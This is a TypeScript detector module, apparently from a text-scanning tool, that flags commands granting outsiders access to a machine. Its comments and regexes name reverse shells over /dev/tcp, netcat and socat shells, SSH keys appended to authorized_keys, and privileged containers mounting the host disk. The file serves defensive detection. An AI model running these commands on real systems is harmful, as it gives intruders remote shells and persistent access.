import { rulesOf, type TextReport } from '../report/types.ts'
import { eachMatch } from '../text/each-match.ts'

export const accessRules = rulesOf('warning', {
  'gives-access':
    'A shell that connects out, a stranger’s login key or a container with the whole disk lets others into the machine.',
})

const ways = [
  // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/host/port
  /(?<![\w-])(?:(?:(?:ba|z|da|k)?sh|exec)\s[^\n|]{0,40}?(?:>&|&>|<>|>|<)\s{0,4}\/dev\/(?:tcp|udp)\/|(?:nc|ncat|netcat)\s[^\n|]{0,60}?-\w{0,4}[ec]\s{1,4}(?:\/bin\/)?(?:ba|z)?sh\b|socat\s[^\n|]{0,120}?(?:exec|system):["']?(?:\/bin\/)?(?:ba|z)?sh\b)/g,
  // echo 'ssh-ed25519 …' >> ~/.ssh/authorized_keys, where the key is written out or fetched
  /(?:(?<![\w-])(?:echo|printf|curl|wget)\s(?![^\n]{0,24}aaaa\w{0,6}(?:\.{3}|…))[^\n]{0,600}?(?:>{1,2}|tee\s{1,4}-a)\s{0,4}["']?(?:~|\$home|\$\{home\}|\/root|\/home\/[\w$.-]{1,32})\/\.ssh\/authorized_keys)/g,
  // docker run --privileged -v /:/host
  /(?<![\w-])(?:docker|podman)\s{1,4}run\s[^\n]{0,200}?(?:--privileged\b[^\n]{0,200}?(?:-v|--volume)[ =]["']?\/:\/|(?:-v|--volume)[ =]["']?\/:\/[^\n]{0,200}?--privileged\b)/g,
] as const

/** Finds commands that let others into the machine. */
export function findAccess(text: string, report: TextReport): void {
  if (!/\/dev\/(?:tcp|udp)|authorized_keys|--privileged|(?:nc|ncat|netcat|socat)\s/.test(text))
    return
  for (const way of ways) {
    eachMatch(way, text, ({ index }) =>
      report('gives-access', 'lets others into the machine', index),
    )
  }
}
